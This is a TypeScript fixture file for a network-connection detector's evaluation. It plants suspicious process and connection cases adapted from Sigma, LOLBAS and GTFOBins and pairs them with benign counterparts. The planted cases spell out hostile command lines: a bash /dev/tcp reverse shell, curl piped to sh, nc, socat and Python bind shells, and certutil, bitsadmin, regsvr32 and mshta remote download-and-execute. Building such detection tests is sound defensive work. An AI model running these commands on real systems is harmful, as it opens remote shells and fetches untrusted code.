// The cases an evaluation fleet plants, by the public rule set they come
// from, and the benign counterparts those rules' filters describe. Each case
// is a fact pattern (binary, location, command line, destination) carried
// over from the named rule; the wording and the code are ours.
//
// Sources: SigmaHQ/sigma rules/*/network_connection/*.yml,
// LOLBAS-Project/LOLBAS yml/OSBinaries/*.yml (download / execute entries),
// GTFOBins/GTFOBins.github.io _gtfobins/*.md (reverse-shell, bind-shell,
// file-download entries), and our own cases for the classes the issue lists.

import type { EvalHost } from "./eval-host.js";

export type Source = "sigma" | "lolbas" | "gtfobins" | "own";

export interface PlantedCase {
  source: Source;
  /** The class of miss it exercises (the numbering, 1-9). */
  cls: number;
  what: string;
  /** Where the fact pattern comes from (repository and path). */
  ref: string;
  os: "linux" | "windows";
  /** The finding it should produce: binary name and protocol. */
  binary: string;
  protocol: string;
  make: (h: EvalHost) => void;
}

export interface BenignCase {
  source: Source;
  what: string;
  os: "linux" | "windows";
  binary: string;
  protocol: string;
  /** Hosts it runs on (a share of the fleet when below 1). */
  hosts: number;
  make: (h: EvalHost) => void;
}

const SIGMA = "SigmaHQ/sigma";
const LOLBAS = "LOLBAS-Project/LOLBAS";
const GTFO = "GTFOBins/GTFOBins.github.io";
const user = { user: "CORP\\bob" };
const alice = { user: "alice" };

export const PLANTED: PlantedCase[] = [
  {
    source: "sigma",
    cls: 7,
    what: "a binary in C:\\Users\\Public connecting out",
    ref: `${SIGMA} rules/windows/network_connection/net_connection_win_susp_initiated_uncommon_or_suspicious_locations.yml`,
    os: "windows",
    binary: "update.exe",
    protocol: "https",
    make: (h) => h.connect(h.proc("update.exe", "C:\\Users\\Public\\update.exe", "C:\\Users\\Public\\update.exe", h.pidOf("explorer.exe"), user), "192.0.2.50", 443),
  },
  {
    source: "sigma",
    cls: 7,
    what: "a binary in C:\\Windows\\Fonts connecting out",
    ref: `${SIGMA} rules/windows/network_connection/net_connection_win_susp_initiated_uncommon_or_suspicious_locations.yml`,
    os: "windows",
    binary: "fontcache.exe",
    protocol: "http",
    make: (h) => h.connect(h.proc("fontcache.exe", "C:\\Windows\\Fonts\\fontcache.exe", "fontcache.exe", h.pidOf("services.exe")), "192.0.2.51", 80),
  },
  {
    source: "sigma",
    cls: 9,
    what: "curl fetching from a paste site",
    ref: `${SIGMA} rules/windows/network_connection/net_connection_win_susp_file_sharing_domains_susp_folders.yml`,
    os: "linux",
    binary: "curl",
    protocol: "https",
    make: (h) => h.connect(h.proc("curl", "/usr/bin/curl", "curl -s https://pastebin.com/raw/Xk2p9QzL -o stage2.py", h.pidOf("bash"), alice), "198.51.100.66", 443),
  },
  {
    source: "sigma",
    cls: 9,
    what: "ssh reverse tunnel to a tunnelling service",
    ref: `${SIGMA} rules/linux/network_connection/net_connection_lnx_ngrok_tunnel.yml`,
    os: "linux",
    binary: "ssh",
    protocol: "ssh",
    make: (h) => h.connect(h.proc("ssh", "/usr/bin/ssh", "ssh -N -R 80:localhost:8080 nokey@serveo.net", h.pidOf("bash"), alice), "198.51.100.67", 22),
  },
  {
    source: "sigma",
    cls: 1,
    what: "an unknown binary calling a malware callback port",
    ref: `${SIGMA} rules/linux/network_connection/net_connection_lnx_susp_malware_callback_port.yml`,
    os: "linux",
    binary: "syncd",
    protocol: "unknown",
    make: (h) => h.connect(h.proc("syncd", "/usr/local/bin/syncd", "/usr/local/bin/syncd -d", h.pidOf("systemd")), "192.0.2.70", 31337),
  },
  {
    source: "sigma",
    cls: 6,
    what: "wscript connecting out",
    ref: `${SIGMA} rules/windows/network_connection/net_connection_win_wscript_cscript_outbound_connection.yml`,
    os: "windows",
    binary: "wscript.exe",
    protocol: "https",
    make: (h) =>
      h.connect(
        h.proc("wscript.exe", "C:\\Windows\\System32\\wscript.exe", '"C:\\Windows\\System32\\WScript.exe" "C:\\Users\\bob\\Downloads\\invoice.js"', h.pidOf("explorer.exe"), user),
        "192.0.2.52",
        443,
      ),
  },
  {
    source: "lolbas",
    cls: 4,
    what: "certutil -urlcache download",
    ref: `${LOLBAS} yml/OSBinaries/Certutil.yml`,
    os: "windows",
    binary: "certutil.exe",
    protocol: "http",
    make: (h) =>
      h.connect(
        h.proc("certutil.exe", "C:\\Windows\\System32\\certutil.exe", "certutil.exe -urlcache -split -f http://192.0.2.49/a.exe a.exe", h.pidOf("explorer.exe"), user),
        "192.0.2.49",
        80,
      ),
  },
  {
    source: "lolbas",
    cls: 4,
    what: "bitsadmin /transfer download",
    ref: `${LOLBAS} yml/OSBinaries/Bitsadmin.yml`,
    os: "windows",
    binary: "bitsadmin.exe",
    protocol: "https",
    make: (h) =>
      h.connect(
        h.proc(
          "bitsadmin.exe",
          "C:\\Windows\\System32\\bitsadmin.exe",
          "bitsadmin /transfer job /download /priority high https://files.example.net/p.exe C:\\Users\\Public\\p.exe",
          h.pidOf("explorer.exe"),
          user,
        ),
        "198.51.100.68",
        443,
      ),
  },
  {
    source: "lolbas",
    cls: 6,
    what: "mshta running a remote HTA",
    ref: `${LOLBAS} yml/OSBinaries/Mshta.yml`,
    os: "windows",
    binary: "mshta.exe",
    protocol: "http",
    make: (h) => h.connect(h.proc("mshta.exe", "C:\\Windows\\System32\\mshta.exe", "mshta.exe http://192.0.2.53/run.hta", h.pidOf("explorer.exe"), user), "192.0.2.53", 80),
  },
  {
    source: "lolbas",
    cls: 4,
    what: "curl.exe downloading into %TEMP%",
    ref: `${LOLBAS} yml/OSBinaries/Curl.yml`,
    os: "windows",
    binary: "curl.exe",
    protocol: "https",
    make: (h) =>
      h.connect(
        h.proc(
          "curl.exe",
          "C:\\Windows\\System32\\curl.exe",
          "curl.exe -s https://cdn.example.org/tool.exe -o C:\\Users\\bob\\AppData\\Local\\Temp\\tool.exe",
          h.pidOf("explorer.exe"),
          user,
        ),
        "198.51.100.69",
        443,
      ),
  },
  {
    source: "lolbas",
    cls: 4,
    what: "regsvr32 loading a remote scriptlet",
    ref: `${LOLBAS} yml/OSBinaries/Regsvr32.yml`,
    os: "windows",
    binary: "regsvr32.exe",
    protocol: "https",
    make: (h) =>
      h.connect(
        h.proc("regsvr32.exe", "C:\\Windows\\System32\\regsvr32.exe", "regsvr32 /s /n /u /i:https://192.0.2.54/file.sct scrobj.dll", h.pidOf("explorer.exe"), user),
        "192.0.2.54",
        443,
      ),
  },
  {
    source: "gtfobins",
    cls: 2,
    what: "nc bind shell (nc -l -e)",
    ref: `${GTFO} _gtfobins/nc.md`,
    os: "linux",
    binary: "nc.traditional",
    protocol: "unknown",
    make: (h) => h.listen(h.proc("nc", "/usr/bin/nc.traditional", "nc -lvnp 4444 -e /bin/sh", h.pidOf("bash"), alice), 4444),
  },
  {
    source: "gtfobins",
    cls: 2,
    what: "socat bind shell (TCP-LISTEN ... EXEC)",
    ref: `${GTFO} _gtfobins/socat.md`,
    os: "linux",
    binary: "socat",
    protocol: "adb",
    make: (h) => h.listen(h.proc("socat", "/usr/bin/socat", "socat TCP-LISTEN:5555,reuseaddr,fork EXEC:/bin/bash,pty,stderr", h.pidOf("bash"), alice), 5555),
  },
  {
    source: "gtfobins",
    cls: 2,
    what: "php -S serving a directory",
    ref: `${GTFO} _gtfobins/php.md`,
    os: "linux",
    binary: "php8.2",
    protocol: "http-alt",
    make: (h) => h.listen(h.proc("php", "/usr/bin/php8.2", "php -S 0.0.0.0:8080 -t /var/www/uploads", h.pidOf("bash"), { user: "www-data" }), 8080),
  },
  {
    source: "gtfobins",
    cls: 2,
    what: "python one-liner bind shell",
    ref: `${GTFO} _gtfobins/python.md`,
    os: "linux",
    binary: "python3.11",
    protocol: "tor",
    make: (h) =>
      h.listen(
        h.proc(
          "python3",
          "/usr/bin/python3.11",
          "python3 -c import socket,subprocess;s=socket.socket();s.bind(('',9001));s.listen(1);c,a=s.accept();subprocess.call(['/bin/sh','-i'],stdin=c,stdout=c,stderr=c)",
          h.pidOf("bash"),
          alice,
        ),
        9001,
      ),
  },
  {
    source: "gtfobins",
    cls: 4,
    what: "wget from a bare IP into /dev/shm",
    ref: `${GTFO} _gtfobins/wget.md`,
    os: "linux",
    binary: "wget",
    protocol: "http-alt",
    make: (h) => h.connect(h.proc("wget", "/usr/bin/wget", "wget -q http://192.0.2.55:8080/k -O /dev/shm/k", h.pidOf("bash"), alice), "192.0.2.55", 8080),
  },
  {
    source: "gtfobins",
    cls: 4,
    what: "curl piped into sh",
    ref: `${GTFO} _gtfobins/curl.md`,
    os: "linux",
    binary: "curl",
    protocol: "http",
    make: (h) => h.connect(h.proc("curl", "/usr/bin/curl", "curl -s http://192.0.2.56/x.sh | sh", h.pidOf("bash"), { user: "www-data" }), "192.0.2.56", 80),
  },
  {
    source: "gtfobins",
    cls: 4,
    what: "bash reverse shell over /dev/tcp",
    ref: `${GTFO} _gtfobins/bash.md`,
    os: "linux",
    binary: "bash",
    protocol: "unknown",
    make: (h) => h.connect(h.proc("bash", "/usr/bin/bash", "bash -c bash -i >& /dev/tcp/192.0.2.44/4444 0>&1", h.pidOf("systemd"), { user: "www-data" }), "192.0.2.44", 4444),
  },
  {
    source: "own",
    cls: 5,
    what: "nginx opening an SSH connection",
    ref: "oddwire",
    os: "linux",
    binary: "nginx",
    protocol: "ssh",
    make: (h) => {
      const nginx = h.processes.find((p) => p["name"] === "nginx")?.["pid"] as number | undefined;
      h.connect(nginx ?? h.proc("nginx", "/usr/sbin/nginx", "nginx: worker process", h.pidOf("systemd")), "198.51.100.71", 22);
    },
  },
  {
    source: "own",
    cls: 7,
    what: "a binary in a hidden directory under home",
    ref: "oddwire",
    os: "linux",
    binary: "dbus-session",
    protocol: "https",
    make: (h) => h.connect(h.proc("dbus-session", "/home/alice/.cache/.dbus/dbus-session", "/home/alice/.cache/.dbus/dbus-session", h.pidOf("systemd"), alice), "192.0.2.57", 443),
  },
  {
    source: "own",
    cls: 7,
    what: "a binary in /var/tmp",
    ref: "oddwire",
    os: "linux",
    binary: "kthreadd2",
    protocol: "https-alt",
    make: (h) => h.connect(h.proc("kthreadd2", "/var/tmp/kthreadd2", "/var/tmp/kthreadd2", h.pidOf("systemd")), "192.0.2.58", 8443),
  },
  {
    source: "own",
    cls: 1,
    what: "an unknown binary in /opt talking to an unregistered port",
    ref: "oddwire",
    os: "linux",
    binary: "helperd",
    protocol: "unknown",
    make: (h) => h.connect(h.proc("helperd", "/opt/helper/helperd", "/opt/helper/helperd --bg", h.pidOf("systemd")), "192.0.2.59", 7443),
  },
];

export const BENIGN: BenignCase[] = [
  {
    source: "sigma",
    what: "vendor updater in Program Files (the rule's Program Files filter)",
    os: "windows",
    binary: "AcmeUpdater.exe",
    protocol: "https",
    hosts: 3,
    make: (h) =>
      h.connect(
        h.proc("AcmeUpdater.exe", "C:\\Program Files\\Acme\\AcmeUpdater.exe", '"C:\\Program Files\\Acme\\AcmeUpdater.exe" /service', h.pidOf("services.exe")),
        "203.0.113.201",
        443,
      ),
  },
  {
    source: "sigma",
    what: "vendor backup agent in /opt on 3 hosts",
    os: "linux",
    binary: "backupd",
    protocol: "https",
    hosts: 3,
    make: (h) => h.connect(h.proc("backupd", "/opt/vendor/backup/bin/backupd", "/opt/vendor/backup/bin/backupd --daemon", h.pidOf("systemd")), "203.0.113.200", 443),
  },
  {
    source: "sigma",
    what: "rare desktop software in Program Files on one host",
    os: "windows",
    binary: "PhotoTool.exe",
    protocol: "https",
    hosts: 1,
    make: (h) =>
      h.connect(
        h.proc("PhotoTool.exe", "C:\\Program Files\\PhotoTool\\PhotoTool.exe", '"C:\\Program Files\\PhotoTool\\PhotoTool.exe"', h.pidOf("explorer.exe"), user),
        "203.0.113.205",
        443,
      ),
  },
  {
    source: "lolbas",
    what: "curl.exe download into the user's Downloads folder from a named host",
    os: "windows",
    binary: "curl.exe",
    protocol: "https",
    hosts: 2,
    make: (h) =>
      h.connect(
        h.proc(
          "curl.exe",
          "C:\\Windows\\System32\\curl.exe",
          "curl.exe -L https://github.com/cli/cli/releases/download/v2.40.0/gh.zip -o C:\\Users\\bob\\Downloads\\gh.zip",
          h.pidOf("explorer.exe"),
          user,
        ),
        "203.0.113.206",
        443,
      ),
  },
  {
    source: "gtfobins",
    what: "wget of a release tarball from a named host",
    os: "linux",
    binary: "wget",
    protocol: "https",
    hosts: 2,
    make: (h) =>
      h.connect(
        h.proc("wget", "/usr/bin/wget", "wget https://github.com/prometheus/node_exporter/releases/download/v1.7.0/node_exporter.tar.gz", h.pidOf("bash"), alice),
        "203.0.113.207",
        443,
      ),
  },
  {
    source: "own",
    what: "Thunderbird on its mail ports on a quarter of the desktops",
    os: "windows",
    binary: "thunderbird.exe",
    protocol: "imaps",
    hosts: 0.25,
    make: (h) =>
      h.connect(
        h.proc(
          "thunderbird.exe",
          "C:\\Program Files\\Mozilla Thunderbird\\thunderbird.exe",
          '"C:\\Program Files\\Mozilla Thunderbird\\thunderbird.exe"',
          h.pidOf("explorer.exe"),
          user,
        ),
        "203.0.113.25",
        993,
      ),
  },
  {
    source: "own",
    what: "Thunderbird open without a connection on nearly every desktop (the denominator of the quarter above)",
    os: "windows",
    binary: "thunderbird.exe",
    protocol: "none",
    hosts: 0.99,
    make: (h) =>
      h.proc(
        "thunderbird.exe",
        "C:\\Program Files\\Mozilla Thunderbird\\thunderbird.exe",
        '"C:\\Program Files\\Mozilla Thunderbird\\thunderbird.exe" -osint',
        h.pidOf("explorer.exe"),
        user,
      ),
  },
  {
    source: "own",
    what: "an administrator's ssh to a server on a few hosts",
    os: "linux",
    binary: "ssh",
    protocol: "ssh",
    hosts: 3,
    make: (h) => h.connect(h.proc("ssh", "/usr/bin/ssh", "ssh admin@203.0.113.90", h.pidOf("bash"), alice), "203.0.113.90", 22),
  },
];
